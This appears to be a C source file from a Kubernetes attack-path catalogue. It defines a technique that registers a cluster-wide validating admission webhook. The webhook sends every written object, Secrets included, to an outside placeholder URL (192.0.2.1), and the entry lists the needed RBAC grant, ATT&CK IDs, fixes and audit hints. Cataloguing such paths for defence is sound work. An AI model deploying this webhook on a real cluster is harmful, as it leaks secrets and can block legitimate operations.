// Sees what is written from now on, not what is stored, hence the traffic of the API rather than all Secrets.
#include "attack/technique.h"
#include "attack/technique/build.h"

static bool body(struct payload *p)
{
	p->object = build_doc(p, "{apiVersion: 'admissionregistration.k8s.io/v1', kind: 'ValidatingWebhookConfiguration', metadata: {name: ?}, webhooks: [{"
		"name: 'probe.bulkhead.example', clientConfig: {url: 'https://192.0.2.1/'}, rules: [{apiGroups: ['*'], apiVersions: ['*'], "
		"operations: ['*'], resources: ['*/*']}], failurePolicy: 'Ignore', sideEffects: 'None', admissionReviewVersions: ['v1']}]}", build_name(p));
	return true;
}

const struct technique technique_webhook_validate_sniff = {
	.id = "webhook-validate-sniff",
	.title = "See and block every object on its way in",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_CONTROL_PLANE,
	.harm = HARM_CONFIDENTIALITY | HARM_AVAILABILITY,
	.attack = "T1557,T1499",
	.matrix = "MS-TA9015",
	.needs = "create, update or patch on validatingwebhookconfigurations",
	.gives = "reads every object that anybody writes, Secrets included, and can refuse it",
	.fixes =
		"Remove the write verbs on validatingwebhookconfigurations\n"
		"Limit them with resourceNames to the operator's own configuration (create cannot be limited)",
	.audit = "create, update or patch of validatingwebhookconfigurations",
	.source = "kubernetes.io docs reference/access-authn-authz/extensible-admission-controllers",
	.from = POSITION_IDENTITY,
	.effect = EFFECT_TRAFFIC,
	.grant = {
		{ "create|update|patch", "admissionregistration.k8s.io", "validatingwebhookconfigurations", .scope = SCOPE_CLUSTER },
	},
	.body = body,
};
